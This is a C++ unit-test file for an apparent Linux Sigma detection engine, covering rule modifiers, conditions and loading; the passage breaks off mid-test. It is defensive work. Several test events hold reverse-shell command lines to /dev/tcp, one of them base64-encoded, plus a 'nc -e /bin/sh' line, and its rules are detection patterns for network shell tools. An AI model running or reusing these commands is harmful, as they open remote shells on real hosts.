// The Sigma engine: modifiers, wildcards, conditions, loading and reporting,
// the index and its counters. Rules are YAML text, events are RuleEvents.
#include "vigil/agent/sigma.h"

#include <gtest/gtest.h>

#include <chrono>
#include <fstream>
#include <string>
#include <vector>

#include "bench/alloc_counter.h"
#include "matcher.h"  // agent/src/sigma: regex_required_literals
#include "util/test_util.h"

namespace {

using namespace vigil::agent::sigma;

// A whole rule around a detection block (indented by four spaces).
std::string rule(std::string_view detection, std::string_view category = "process_creation",
                 std::string_view id = "r1", std::string_view extra = "") {
  std::string y = "title: test rule " + std::string(id) + "\nid: " + std::string(id) +
                  "\nlogsource:\n    product: linux\n    category: " + std::string(category) +
                  "\n" + std::string(extra) + "detection:" + std::string(detection) + "\n";
  return y;
}

struct Engine {
  RuleSet set;
  LoadReport report;

  bool load(std::string_view yaml) {
    const auto before = report.rules_loaded;
    set.add_yaml(yaml, "test.yml", report);
    return report.rules_loaded > before;
  }
  [[nodiscard]] std::string reason() const {
    return report.entries.empty() ? "" : report.entries.back().reason;
  }
  std::vector<std::string> match(const RuleEvent& e) const {
    std::vector<const RuleInfo*> out;
    set.match(e, out);
    std::vector<std::string> ids;
    for (const auto* r : out) {
      ids.push_back(r->id);
    }
    return ids;
  }
  bool hits(const RuleEvent& e) const { return !match(e).empty(); }
};

RuleEvent proc(std::string_view cmdline, std::string_view image = "/usr/bin/true") {
  RuleEvent e;
  e.clear();
  e.category = Category::kProcessCreation;
  e.set(Field::kImage, image);
  e.set(Field::kCommandLine, cmdline);
  return e;
}

RuleEvent with(RuleEvent e, Field f, std::string_view v) {
  e.set(f, v);
  return e;
}

RuleEvent file(std::string_view path, Category c = Category::kFileEvent) {
  RuleEvent e;
  e.clear();
  e.category = c;
  e.set(Field::kTargetFilename, path);
  e.set(Field::kImage, "/usr/bin/touch");
  return e;
}

RuleEvent net(std::string_view ip, std::string_view port = "443") {
  RuleEvent e;
  e.clear();
  e.category = Category::kNetworkConnection;
  e.set(Field::kDestinationIp, ip);
  e.set(Field::kDestinationPort, port);
  e.set(Field::kInitiated, "true");
  return e;
}

// One rule, compiled, against events: the rule must load.
class Rule {
 public:
  explicit Rule(std::string_view detection, std::string_view category = "process_creation") {
    loaded_ = engine_.load(rule(detection, category));
    EXPECT_TRUE(loaded_) << engine_.reason();
  }
  bool operator()(const RuleEvent& e) const { return loaded_ && engine_.hits(e); }

 private:
  Engine engine_;
  bool loaded_ = false;
};

// The reason a rule does not load ("" if it does).
std::string failure(std::string_view detection, std::string_view category = "process_creation") {
  Engine e;
  if (e.load(rule(detection, category))) {
    return "";
  }
  EXPECT_FALSE(e.report.entries.empty());
  return e.reason();
}

// ---- plain values, wildcards, escaping, case --------------------------------

TEST(SigmaValues, PlainValueIsWholeValueCaseInsensitive) {
  Rule r(R"(
    sel:
        Image: '/usr/bin/BASH'
    condition: sel)");
  EXPECT_TRUE(r(proc("", "/usr/bin/bash")));
  EXPECT_TRUE(r(proc("", "/USR/BIN/BASH")));
  EXPECT_FALSE(r(proc("", "/usr/bin/bash5")));
  EXPECT_FALSE(r(proc("", "x/usr/bin/bash")));
}

TEST(SigmaValues, StarMatchesAnyRun) {
  Rule r(R"(
    sel:
        CommandLine: 'curl *http*://*'
    condition: sel)");
  EXPECT_TRUE(r(proc("curl -s https://x")));
  EXPECT_TRUE(r(proc("curl http://")));
  EXPECT_FALSE(r(proc("wget https://x")));
  EXPECT_FALSE(r(proc("curl -s ftp://x")));
}

TEST(SigmaValues, QuestionMarkMatchesOneCharacter) {
  Rule r(R"(
    sel:
        CommandLine: 'a?c'
    condition: sel)");
  EXPECT_TRUE(r(proc("abc")));
  EXPECT_TRUE(
      r(proc("a\xC3\xA9"
             "c")));  // one character, two bytes
  EXPECT_FALSE(r(proc("ac")));
  EXPECT_FALSE(r(proc("abbc")));
}

TEST(SigmaValues, EscapedWildcardsAreLiteral) {
  Rule star(R"(
    sel:
        CommandLine: 'a\*c'
    condition: sel)");
  EXPECT_TRUE(star(proc("a*c")));
  EXPECT_FALSE(star(proc("abc")));
  Rule question(R"(
    sel:
        CommandLine: 'a\?c'
    condition: sel)");
  EXPECT_TRUE(question(proc("a?c")));
  EXPECT_FALSE(question(proc("abc")));
}

TEST(SigmaValues, EscapedBackslashBeforeWildcard) {
  // `\\*`: a literal backslash, then a wildcard.
  Rule r(R"(
    sel:
        CommandLine: 'a\\*'
    condition: sel)");
  EXPECT_TRUE(r(proc("a\\")));
  EXPECT_TRUE(r(proc("a\\xyz")));
  EXPECT_FALSE(r(proc("axyz")));
}

TEST(SigmaValues, BackslashBeforeOtherCharacterIsLiteral) {
  Rule r(R"(
    sel:
        CommandLine|endswith: 'C:\Windows\x'
    condition: sel)");
  EXPECT_TRUE(r(proc("wine c:\\windows\\x")));
  EXPECT_FALSE(r(proc("wine c:windowsx")));
}

TEST(SigmaValues, ListOfValuesIsOr) {
  Rule r(R"(
    sel:
        Image|endswith:
            - '/nc'
            - '/ncat'
    condition: sel)");
  EXPECT_TRUE(r(proc("", "/usr/bin/nc")));
  EXPECT_TRUE(r(proc("", "/usr/bin/ncat")));
  EXPECT_FALSE(r(proc("", "/usr/bin/socat")));
}

TEST(SigmaValues, MapIsAndOfFields) {
  Rule r(R"(
    sel:
        Image|endswith: '/base64'
        CommandLine|contains: '-d'
    condition: sel)");
  EXPECT_TRUE(r(proc("base64 -d", "/usr/bin/base64")));
  EXPECT_FALSE(r(proc("base64 -w0", "/usr/bin/base64")));
  EXPECT_FALSE(r(proc("cut -d:", "/usr/bin/cut")));
}

TEST(SigmaValues, ListOfMapsIsOr) {
  Rule r(R"(
    sel:
        - Image|endswith: '/wget'
        - CommandLine|contains: 'curl '
    condition: sel)");
  EXPECT_TRUE(r(proc("", "/usr/bin/wget")));
  EXPECT_TRUE(r(proc("curl x")));
  EXPECT_FALSE(r(proc("fetch x")));
}

TEST(SigmaValues, PlainNumbersCompareAsDecimalText) {
  Rule r(R"(
    sel:
        DestinationPort:
            - 4444
            - 0x1F90
    condition: sel)",
         "network_connection");
  EXPECT_TRUE(r(net("10.0.0.1", "4444")));
  EXPECT_TRUE(r(net("10.0.0.1", "8080")));
  EXPECT_FALSE(r(net("10.0.0.1", "44444")));
}

TEST(SigmaValues, QuotedNumbersStayText) {
  Rule r(R"(
    sel:
        CommandLine:
            - '0x1F90'
            - '007'
    condition: sel)");
  EXPECT_TRUE(r(proc("0x1f90")));
  EXPECT_FALSE(r(proc("8080")));
  EXPECT_TRUE(r(proc("007")));
  EXPECT_FALSE(r(proc("7")));
}

TEST(SigmaValues, PlainBooleanComparesAsText) {
  Rule r(R"(
    sel:
        Initiated: true
    condition: sel)",
         "network_connection");
  EXPECT_TRUE(r(net("10.0.0.1")));
  auto e = net("10.0.0.1");
  e.set(Field::kInitiated, "false");
  EXPECT_FALSE(r(e));
}

TEST(SigmaValues, NullIsAbsentOrEmpty) {
  Rule r(R"(
    sel:
        CommandLine|contains: 'x'
        CurrentDirectory: null
    condition: sel)");
  EXPECT_TRUE(r(proc("x")));
  EXPECT_TRUE(r(with(proc("x"), Field::kCurrentDirectory, "")));
  EXPECT_FALSE(r(with(proc("x"), Field::kCurrentDirectory, "/tmp")));
}

TEST(SigmaValues, EmptyStringIsAPresentEmptyValue) {
  Rule r(R"(
    sel:
        CommandLine|contains: 'x'
        CurrentDirectory: ''
    condition: sel)");
  EXPECT_FALSE(r(proc("x")));
  EXPECT_TRUE(r(with(proc("x"), Field::kCurrentDirectory, "")));
}

TEST(SigmaValues, AbsentFieldMatchesNoValue) {
  Rule r(R"(
    sel:
        ParentImage|endswith: '/sshd'
    condition: not sel)");
  EXPECT_TRUE(r(proc("x")));  // absent: `sel` is false, `not sel` true
  EXPECT_FALSE(r(with(proc("x"), Field::kParentImage, "/usr/sbin/sshd")));
}

TEST(SigmaValues, FieldNamesAreCaseInsensitive) {
  Rule r(R"(
    sel:
        commandline|contains: 'whoami'
        IMAGE|endswith: '/sh'
    condition: sel)");
  EXPECT_TRUE(r(proc("sh -c whoami", "/bin/sh")));
}

// ---- modifiers --------------------------------------------------------------

TEST(SigmaModifiers, Contains) {
  Rule r(R"(
    sel:
        CommandLine|contains: '/dev/TCP/'
    condition: sel)");
  EXPECT_TRUE(r(proc("bash -i >& /dev/tcp/10.0.0.1/4444")));
  EXPECT_FALSE(r(proc("bash -i >& /dev/udp/10.0.0.1/4444")));
}

TEST(SigmaModifiers, StartswithAndEndswith) {
  Rule starts(R"(
    sel:
        Image|startswith: '/tmp/'
    condition: sel)");
  EXPECT_TRUE(starts(proc("", "/tmp/x")));
  EXPECT_FALSE(starts(proc("", "/var/tmp/x")));
  Rule ends(R"(
    sel:
        Image|endswith: '/python3'
    condition: sel)");
  EXPECT_TRUE(ends(proc("", "/usr/bin/python3")));
  EXPECT_FALSE(ends(proc("", "/usr/bin/python3.11")));
}

TEST(SigmaModifiers, ContainsKeepsInnerWildcards) {
  Rule r(R"(
    sel:
        CommandLine|contains: 'chmod *+x'
    condition: sel)");
  EXPECT_TRUE(r(proc("sudo chmod u+x f")));
  EXPECT_FALSE(r(proc("sudo chmod 755 f")));
}

TEST(SigmaModifiers, AllRequiresEveryValue) {
  Rule r(R"(
    sel:
        CommandLine|contains|all:
            - 's_client'
            - '-quiet'
    condition: sel)");
  EXPECT_TRUE(r(proc("openssl s_client -quiet -connect x")));
  EXPECT_FALSE(r(proc("openssl s_client -connect x")));
}

TEST(SigmaModifiers, CasedIsCaseSensitive) {
  Rule r(R"(
    sel:
        CommandLine|contains|cased: ' -O '
    condition: sel)");
  EXPECT_TRUE(r(proc("wget -O out")));
  EXPECT_FALSE(r(proc("wget -o out")));
}

TEST(SigmaModifiers, ReIsCaseSensitiveSearch) {
  Rule r(R"(
    sel:
        CommandLine|re: '\s-[FTd]\s'
    condition: sel)");
  EXPECT_TRUE(r(proc("nc -d host")));
  EXPECT_FALSE(r(proc("nc -D host")));
}

TEST(SigmaModifiers, ReFlags) {
  Rule i(R"(
    sel:
        CommandLine|re|i: 'WHOAMI'
    condition: sel)");
  EXPECT_TRUE(i(proc("whoami")));
  Rule m(R"(
    sel:
        CommandLine|re|m: '^b$'
    condition: sel)");
  EXPECT_TRUE(m(proc("a\nb\nc")));
  Rule no_m(R"(
    sel:
        CommandLine|re: '^b$'
    condition: sel)");
  EXPECT_FALSE(no_m(proc("a\nb\nc")));
  Rule s(R"(
    sel:
        CommandLine|re|s: 'a.b'
    condition: sel)");
  EXPECT_TRUE(s(proc("a\nb")));
  Rule no_s(R"(
    sel:
        CommandLine|re: 'a.b'
    condition: sel)");
  EXPECT_FALSE(no_s(proc("a\nb")));
}

TEST(SigmaModifiers, ReStaysLinearOnCatastrophicPattern) {
  Rule r(R"(
    sel:
        CommandLine|re: '^(a+)+$'
    condition: sel)");
  const std::string evil = std::string(100000, 'a') + "!";
  const auto t0 = std::chrono::steady_clock::now();
  EXPECT_FALSE(r(proc(evil)));
  EXPECT_LT(std::chrono::steady_clock::now() - t0, std::chrono::seconds(2));
}

TEST(SigmaModifiers, ReRejectsWhatRe2CannotDo) {
  const auto why = failure(R"(
    sel:
        CommandLine|re: 'a(?=b)'
    condition: sel)");
  EXPECT_NE(why.find("invalid regular expression"), std::string::npos) << why;
}

TEST(SigmaModifiers, Base64) {
  Rule r(R"(
    sel:
        CommandLine|base64|contains: 'hello'
    condition: sel)");
  EXPECT_TRUE(r(proc("echo aGVsbG8= | base64 -d")));
  EXPECT_FALSE(r(proc("echo aGVsbG9v | base64 -d")));
}

TEST(SigmaModifiers, Base64OffsetFindsEveryAlignment) {
  // base64 of "ab /dev/tcp/...", "abc /dev/tcp/...", "a /dev/tcp/...": the
  // needle at offsets 0, 1 and 2 modulo 3.
  Rule r(R"(
    sel:
        CommandLine|base64offset|contains: '/dev/tcp/'
    condition: sel)");
  EXPECT_TRUE(r(proc("echo YWIgL2Rldi90Y3AvMTAuMC4wLjEvNDQ0NA== | base64 -d | sh")));
  EXPECT_TRUE(r(proc("echo YWJjIC9kZXYvdGNwLzEwLjAuMC4xLzQ0NDQ= | base64 -d | sh")));
  EXPECT_TRUE(r(proc("echo YSAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0 | base64 -d | sh")));
  // A real reverse shell, encoded whole.
  EXPECT_TRUE(
      r(proc("bash -c {echo,L2Jpbi9zaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE=}|"
             "{base64,-d}|{bash,-i}")));
  EXPECT_FALSE(r(proc("echo L2Rldi91ZHAv | base64 -d")));  // /dev/udp/
}

TEST(SigmaModifiers, Base64OffsetVariantsArePySigmas) {
  Engine e;
  // Direct check of the three variants through a one-value rule per variant.
  ASSERT_TRUE(e.load(rule(R"(
    sel:
        CommandLine|base64offset: '/dev/tcp/'
    condition: sel)")));
  EXPECT_TRUE(e.hits(proc("L2Rldi90Y3Av")));
  EXPECT_TRUE(e.hits(proc("9kZXYvdGNwL")));
  EXPECT_TRUE(e.hits(proc("vZGV2L3RjcC")));
  EXPECT_FALSE(e.hits(proc("L2Rldi90Y3AvX")));  // without contains: the whole value
}

TEST(SigmaModifiers, WideThenBase64) {
  Rule r(R"(
    sel:
        CommandLine|wide|base64offset|contains: 'cmd'
    condition: sel)");
  EXPECT_TRUE(r(proc("pwsh -enc YwBtAGQA")));
  EXPECT_FALSE(r(proc("pwsh -enc Y21k")));  // "cmd" in UTF-8
}

TEST(SigmaModifiers, Utf16WithoutBase64IsUnsupported) {
  const auto why = failure(R"(
    sel:
        CommandLine|utf16le|contains: 'cmd'
    condition: sel)");
  EXPECT_NE(why.find("without base64"), std::string::npos) << why;
}

TEST(SigmaModifiers, WindashExpandsEveryDash) {
  Rule r(R"(
    sel:
        CommandLine|windash|contains: ' -exec '
    condition: sel)");
  EXPECT_TRUE(r(proc("find . -exec sh ;")));
  EXPECT_TRUE(r(proc("find . /exec sh ;")));
  EXPECT_TRUE(r(proc("find . \u2013exec sh ;")));
  EXPECT_TRUE(r(proc("find . \u2014exec sh ;")));
  EXPECT_TRUE(r(proc("find . \u2015exec sh ;")));
  EXPECT_FALSE(r(proc("find . +exec sh ;")));
}

TEST(SigmaModifiers, CidrV4AndV6) {
  Rule r(R"(
    sel:
        DestinationIp|cidr:
            - '10.0.0.0/8'
            - '172.16.0.0/12'
            - 'fe80::/10'
    condition: sel)",
         "network_connection");
  EXPECT_TRUE(r(net("10.1.2.3")));
  EXPECT_TRUE(r(net("172.31.255.255")));
  EXPECT_FALSE(r(net("172.32.0.1")));
  EXPECT_TRUE(r(net("fe80::1")));
  EXPECT_TRUE(r(net("febf::1")));
  EXPECT_FALSE(r(net("fec0::1")));
  EXPECT_TRUE(r(net("::ffff:10.0.0.5")));  // IPv4-mapped
  EXPECT_FALSE(r(net("11.0.0.1")));
  EXPECT_FALSE(r(net("not an address")));
}

TEST(SigmaModifiers, CidrRejectsBadNetworks) {
  const auto why = failure(R"(
    sel:
        DestinationIp|cidr: '10.0.0.0/33'
    condition: sel)",
                           "network_connection");
  EXPECT_NE(why.find("cidr"), std::string::npos) << why;
}

TEST(SigmaModifiers, Exists) {
  Rule present(R"(
    sel:
        CommandLine|contains: 'x'
        CurrentDirectory|exists: true
    condition: sel)");
  EXPECT_FALSE(present(proc("x")));
  EXPECT_TRUE(present(with(proc("x"), Field::kCurrentDirectory, "")));
  Rule absent(R"(
    sel:
        CommandLine|contains: 'x'
        CurrentDirectory|exists: false
    condition: sel)");
  EXPECT_TRUE(absent(proc("x")));
  EXPECT_FALSE(absent(with(proc("x"), Field::kCurrentDirectory, "/")));
}

TEST(SigmaModifiers, NumericComparisons) {
  Rule lt(R"(
    sel:
        DestinationPort|lt: 1024
    condition: sel)",
          "network_connection");
  EXPECT_TRUE(lt(net("1.1.1.1", "80")));
  EXPECT_FALSE(lt(net("1.1.1.1", "1024")));
  EXPECT_FALSE(lt(net("1.1.1.1", "http")));
  Rule lte(R"(
    sel:
        DestinationPort|lte: 1024
    condition: sel)",
           "network_connection");
  EXPECT_TRUE(lte(net("1.1.1.1", "1024")));
  EXPECT_FALSE(lte(net("1.1.1.1", "1025")));
  Rule gt(R"(
    sel:
        DestinationPort|gt: 49151
    condition: sel)",
          "network_connection");
  EXPECT_TRUE(gt(net("1.1.1.1", "50000")));
  EXPECT_FALSE(gt(net("1.1.1.1", "49151")));
  Rule gte(R"(
    sel:
        Uid|gte: 1000
    condition: sel)");
  EXPECT_TRUE(gte(with(proc(""), Field::kUid, "1000")));
  EXPECT_FALSE(gte(with(proc(""), Field::kUid, "999")));
}

TEST(SigmaModifiers, FieldRef) {
  Rule eq(R"(
    sel:
        ParentImage|fieldref: Image
    condition: sel)");
  EXPECT_TRUE(eq(with(proc("", "/usr/bin/bash"), Field::kParentImage, "/usr/bin/BASH")));
  EXPECT_FALSE(eq(with(proc("", "/usr/bin/bash"), Field::kParentImage, "/usr/bin/sh")));
  EXPECT_FALSE(eq(proc("", "/usr/bin/bash")));  // ParentImage absent
  Rule contains(R"(
    sel:
        CommandLine|fieldref|contains: Comm
    condition: sel)");
  EXPECT_TRUE(contains(with(proc("exec -a kworker x"), Field::kComm, "kworker")));
  EXPECT_FALSE(contains(with(proc("exec x"), Field::kComm, "kworker")));
}

TEST(SigmaModifiers, FieldRefToUnknownFieldFails) {
  const auto why = failure(R"(
    sel:
        Image|fieldref: NoSuchField
    condition: sel)");
  EXPECT_NE(why.find("NoSuchField"), std::string::npos) << why;
}

TEST(SigmaModifiers, Neq) {
  Rule r(R"(
    sel:
        Image|endswith: '/sudo'
        User|neq: root
    condition: sel)");
  EXPECT_TRUE(r(with(proc("", "/usr/bin/sudo"), Field::kUser, "alice")));
  EXPECT_FALSE(r(with(proc("", "/usr/bin/sudo"), Field::kUser, "ROOT")));
}

TEST(SigmaModifiers, ExpandIsUnsupported) {
  const auto why = failure(R"(
    sel:
        User|expand: '%admins%'
    condition: sel)");
  EXPECT_NE(why.find("'expand' is not supported"), std::string::npos) << why;
}

TEST(SigmaModifiers, UnknownModifierFailsNamingIt) {
  const auto why = failure(R"(
    sel:
        CommandLine|containz: 'x'
    condition: sel)");
  EXPECT_NE(why.find("unknown modifier 'containz'"), std::string::npos) << why;
}

TEST(SigmaModifiers, ReFlagWithoutReFails) {
  const auto why = failure(R"(
    sel:
        CommandLine|contains|i: 'x'
    condition: sel)");
  EXPECT_NE(why.find("need 're'"), std::string::npos) << why;
}

// ---- keywords ---------------------------------------------------------------

TEST(SigmaKeywords, ProcessKeywordsSearchTheCommandLine) {
  Rule r(R"(
    keywords:
        - 'whoami'
        - 'id -u'
    condition: keywords)");
  EXPECT_TRUE(r(proc("sh -c 'WHOAMI; ls'")));
  EXPECT_TRUE(r(proc("id -u")));
  EXPECT_FALSE(r(proc("id -g", "/usr/bin/whoami")));  // not the Image
}

TEST(SigmaKeywords, FileKeywordsSearchTheTargetFilename) {
  Rule r(R"(
    keywords: '.bash_history'
    condition: keywords)",
         "file_event");
  EXPECT_TRUE(r(file("/root/.bash_history")));
  EXPECT_FALSE(r(file("/root/.profile")));
}

TEST(SigmaKeywords, KeywordsWithModifiers) {
  Rule r(R"(
    keywords:
        '|all':
            - 'nc'
            - '-e'
    condition: keywords)");
  EXPECT_TRUE(r(proc("nc -e /bin/sh h 1")));
  EXPECT_FALSE(r(proc("nc h 1")));
}

TEST(SigmaKeywords, NetworkHasNoKeywordField) {
  const auto why = failure(R"(
    keywords: 'x'
    condition: keywords)",
                           "network_connection");
  EXPECT_NE(why.find("keywords"), std::string::npos) << why;
}

// ---- conditions ---------------------------------------------------------------

constexpr std::string_view kABC = R"(
    a:
        CommandLine|contains: 'AAA'
    b:
        CommandLine|contains: 'BBB'
    c:
        CommandLine|contains: 'CCC'
)";

std::string abc(std::string_view condition) {
  return std::string(kABC) + "    condition: " + std::string(condition);
}

TEST(SigmaConditions, AndOrNot) {
  Rule both(abc("a and b"));
  EXPECT_TRUE(both(proc("AAA BBB")));
  EXPECT_FALSE(both(proc("AAA")));
  Rule either(abc("a or b"));
  EXPECT_TRUE(either(proc("BBB")));
  EXPECT_FALSE(either(proc("CCC")));
  Rule neither(abc("not a"));
  EXPECT_TRUE(neither(proc("CCC")));
  EXPECT_FALSE(neither(proc("AAA")));
}

TEST(SigmaConditions, AndBindsTighterThanOr) {
  Rule r(abc("a or b and c"));  // a or (b and c)
  EXPECT_TRUE(r(proc("AAA")));
  EXPECT_FALSE(r(proc("BBB")));
  EXPECT_TRUE(r(proc("BBB CCC")));
}

TEST(SigmaConditions, NotBindsTighterThanAnd) {
  Rule r(abc("not a and b"));  // (not a) and b
  EXPECT_TRUE(r(proc("BBB")));
  EXPECT_FALSE(r(proc("AAA BBB")));
  EXPECT_FALSE(r(proc("AAA")));  // would be true as not (a and b)
}

TEST(SigmaConditions, Parentheses) {
  Rule r(abc("(a or b) and c"));
  EXPECT_FALSE(r(proc("AAA")));
  EXPECT_TRUE(r(proc("AAA CCC")));
  Rule n(abc("not (a or b)"));
  EXPECT_TRUE(n(proc("CCC")));
  EXPECT_FALSE(n(proc("BBB")));
}

TEST(SigmaConditions, OperatorsAreCaseInsensitive) {
  Rule r(abc("a AND NOT b"));
  EXPECT_TRUE(r(proc("AAA")));
  EXPECT_FALSE(r(proc("AAA BBB")));
}

constexpr std::string_view kSelections = R"(
    selection_img:
        Image|endswith: '/curl'
    selection_cli:
        CommandLine|contains: ' -o '
    filter_main:
        CommandLine|contains: 'localhost'
    _aux:
        CommandLine|contains: 'never'
)";

std::string sels(std::string_view condition) {
  return std::string(kSelections) + "    condition: " + std::string(condition);
}

TEST(SigmaConditions, OneOfPattern) {
  Rule r(sels("1 of selection_* and not 1 of filter_*"));
  EXPECT_TRUE(r(proc("curl x", "/usr/bin/curl")));
  EXPECT_TRUE(r(proc("wget -o f", "/usr/bin/wget")));
  EXPECT_FALSE(r(proc("curl -o f localhost", "/usr/bin/curl")));
  EXPECT_FALSE(r(proc("ls", "/usr/bin/ls")));
}

TEST(SigmaConditions, AllOfPattern) {
  Rule r(sels("all of selection_*"));
  EXPECT_TRUE(r(proc("curl -o f x", "/usr/bin/curl")));
  EXPECT_FALSE(r(proc("curl x", "/usr/bin/curl")));
}

TEST(SigmaConditions, AnyOfIsOneOf) {
  Rule r(sels("any of selection*"));
  EXPECT_TRUE(r(proc("x", "/usr/bin/curl")));
}

TEST(SigmaConditions, OneOfThem) {
  Rule r(sels("1 of them"));
  EXPECT_TRUE(r(proc("localhost")));
  EXPECT_FALSE(r(proc("never", "/usr/bin/ls")));  // `_aux` is not one of `them`
}

TEST(SigmaConditions, AllOfThemLeavesOutUnderscoreNames) {
  Rule r(sels("all of them"));
  EXPECT_TRUE(r(proc("curl -o f localhost", "/usr/bin/curl")));  // `never` not needed
  EXPECT_FALSE(r(proc("curl -o f", "/usr/bin/curl")));
}

TEST(SigmaConditions, ListOfConditionsIsOr) {
  Rule r(std::string(kABC) + R"(    condition:
        - a and b
        - c)");
  EXPECT_TRUE(r(proc("AAA BBB")));
  EXPECT_TRUE(r(proc("CCC")));
  EXPECT_FALSE(r(proc("AAA")));
}

TEST(SigmaConditions, BadConditionsFailWithReasons) {
  EXPECT_NE(failure(abc("a and (b or c")).find("missing ')'"), std::string::npos);
  EXPECT_NE(failure(abc("a or")).find("condition"), std::string::npos);
  EXPECT_NE(failure(abc("a b")).find("unexpected 'b'"), std::string::npos);
  EXPECT_NE(failure(abc("a and d")).find("unknown selection 'd'"), std::string::npos);
  EXPECT_NE(failure(abc("1 of x*")).find("matches no selection"), std::string::npos);
  EXPECT_NE(failure(abc("a | count() > 5")).find("aggregations"), std::string::npos);
  EXPECT_NE(failure(abc("all a")).find("'of'"), std::string::npos);
}

TEST(SigmaConditions, DeepNestingIsRefusedNotCrashed) {
  std::string deep(200, '(');
  deep += "a";
  deep += std::string(200, ')');
  EXPECT_NE(failure(abc(deep)).find("nested too deeply"), std::string::npos);
}

// ---- loading and reporting --------------------------------------------------

TEST(SigmaLoad, UnknownFieldFailsNamingIt) {
  const auto why = failure(R"(
    sel:
        ImageLoaded|endswith: '/x.so'
    condition: sel)");
  EXPECT_NE(why.find("unknown field 'ImageLoaded'"), std::string::npos) << why;
}

TEST(SigmaLoad, BadYamlIsAFileLevelFailure) {
  Engine e;
  e.set.add_yaml("title: x\ndetection: [unclosed\n", "bad.yml", e.report);
  EXPECT_EQ(e.report.files, 1u);
  EXPECT_EQ(e.report.files_failed, 1u);
  ASSERT_EQ(e.report.entries.size(), 1u);
  EXPECT_EQ(e.report.entries[0].file, "bad.yml");
  EXPECT_EQ(e.report.entries[0].rule, "");
  EXPECT_FALSE(e.report.entries[0].loaded);
  EXPECT_TRUE(e.report.entries[0].reason.starts_with("YAML error at line"))
      << e.report.entries[0].reason;
}

TEST(SigmaLoad, MissingPartsFail) {
  Engine e;
  EXPECT_FALSE(e.load("title: x\nlogsource: {product: linux, category: process_creation}\n"));
  EXPECT_EQ(e.reason(), "missing detection");
  EXPECT_FALSE(e.load("id: x\nlogsource: {product: linux, category: process_creation}\n"));
  EXPECT_EQ(e.reason(), "missing title");
  EXPECT_FALSE(e.load(rule(R"(
    sel:
        Image: x)")));
  EXPECT_EQ(e.reason(), "missing condition");
  EXPECT_EQ(e.report.rules_failed, 3u);
}

TEST(SigmaLoad, OtherLogsourcesAreSkipped) {
  Engine e;
  const std::string detection = R"(
detection:
    sel:
        a0: x
    condition: sel
)";
  EXPECT_FALSE(
      e.load("title: w\nlogsource: {product: windows, category: process_creation}" + detection));
  EXPECT_TRUE(e.report.entries.back().skipped);
  EXPECT_NE(e.reason().find("windows"), std::string::npos);
  EXPECT_FALSE(e.load("title: a\nlogsource: {product: linux, service: auditd}" + detection));
  EXPECT_TRUE(e.report.entries.back().skipped);
  EXPECT_NE(e.reason().find("auditd"), std::string::npos);
  EXPECT_FALSE(e.load("title: d\nlogsource: {product: linux, category: dns_query}" + detection));
  EXPECT_TRUE(e.report.entries.back().skipped);
  EXPECT_EQ(e.report.rules_skipped, 3u);
  EXPECT_EQ(e.report.rules_failed, 0u);
}

TEST(SigmaLoad, VigilCategoriesLoadByCategoryOrService) {
  Engine e;
  for (const auto* c : {"ptrace", "memory", "privilege", "file_access", "process_termination",
                        "file_change", "file_rename", "file_delete"}) {
    EXPECT_TRUE(e.load("title: " + std::string(c) + "\nid: " + c +
                       "\nlogsource: {product: linux, category: " + c +
                       "}\ndetection:\n    sel:\n        Comm: x\n    condition: sel\n"))
        << c << ": " << e.reason();
  }
  EXPECT_TRUE(
      e.load("title: s\nid: s\nlogsource: {product: linux, service: ptrace}\n"
             "detection:\n    sel:\n        Request: PTRACE_ATTACH\n    condition: sel\n"))
      << e.reason();
  RuleEvent ev;
  ev.clear();
  ev.category = Category::kPtrace;
  ev.set(Field::kRequest, "PTRACE_ATTACH");
  EXPECT_EQ(e.match(ev), std::vector<std::string>{"s"});
}

TEST(SigmaLoad, CorrelationAndGlobalActionAreNotLoaded) {
  Engine e;
  EXPECT_FALSE(e.load(R"(
title: many failed logins
correlation:
    type: event_count
    rules: [r1]
    group-by: [User]
    timespan: 5m
    condition: {gte: 10}
)"));
  EXPECT_TRUE(e.report.entries.back().skipped);
  EXPECT_NE(e.reason().find("correlation"), std::string::npos);
  EXPECT_FALSE(e.load("action: global\ntitle: g\nlogsource: {product: linux}\n"));
  EXPECT_FALSE(e.report.entries.back().skipped);
  EXPECT_NE(e.reason().find("action: global"), std::string::npos);
}

TEST(SigmaLoad, MultipleDocuments) {
  Engine e;
  e.set.add_yaml(rule(R"(
    sel:
        CommandLine|contains: 'one'
    condition: sel)",
                      "process_creation", "first") +
                     "---\n" +
                     rule(R"(
    sel:
        CommandLine|contains: 'two'
    condition: sel)",
                          "process_creation", "second") +
                     "---\n",
                 "multi.yml", e.report);
  EXPECT_EQ(e.report.files, 1u);
  EXPECT_EQ(e.report.rules_loaded, 2u);
  ASSERT_EQ(e.report.entries.size(), 2u);
  EXPECT_EQ(e.report.entries[0].rule, "first");
  EXPECT_EQ(e.report.entries[1].rule, "second");
  EXPECT_EQ(e.match(proc("one two")), (std::vector<std::string>{"first", "second"}));
}

TEST(SigmaLoad, DuplicateIdsFail) {
  Engine e;
  const auto r = rule(R"(
    sel:
        Comm: x
    condition: sel)");
  EXPECT_TRUE(e.load(r));
  EXPECT_FALSE(e.load(r));
  EXPECT_NE(e.reason().find("duplicate"), std::string::npos);
}

TEST(SigmaLoad, LevelToSeverity) {
  EXPECT_EQ(severity(Level::kInformational), 10);
  EXPECT_EQ(severity(Level::kLow), 30);
  EXPECT_EQ(severity(Level::kMedium), 45);
  EXPECT_EQ(severity(Level::kHigh), 70);
  EXPECT_EQ(severity(Level::kCritical), 90);
  Engine e;
  const std::string det = R"(
    sel:
        Comm: x
    condition: sel)";
  ASSERT_TRUE(e.load(rule(det, "process_creation", "hi", "level: high\n")));
  ASSERT_TRUE(e.load(rule(det, "process_creation", "none")));
  EXPECT_FALSE(e.load(rule(det, "process_creation", "bad", "level: urgent\n")));
  EXPECT_NE(e.reason().find("urgent"), std::string::npos);
  const auto rules = e.set.rules();
  ASSERT_EQ(rules.size(), 2u);
  EXPECT_EQ(rules[0].first->level, Level::kHigh);
  EXPECT_EQ(rules[0].first->severity, 70);
  EXPECT_EQ(rules[1].first->level, Level::kMedium);
  EXPECT_EQ(rules[1].first->severity, 45);
}

TEST(SigmaLoad, MetadataAndAttackIds) {
  Engine e;
  ASSERT_TRUE(e.load(R"(
title: Reverse shell
id: 11111111-2222-3333-4444-555555555555
name: vigil_reverse_shell
status: test
description: A shell wired to a socket.
references:
    - https://example.org/first
    - https://example.org/second
author: Someone, Someone Else
date: 2024-01-01
tags:
    - attack.execution
    - attack.t1059.004
    - attack.T1027
    - attack.g0032
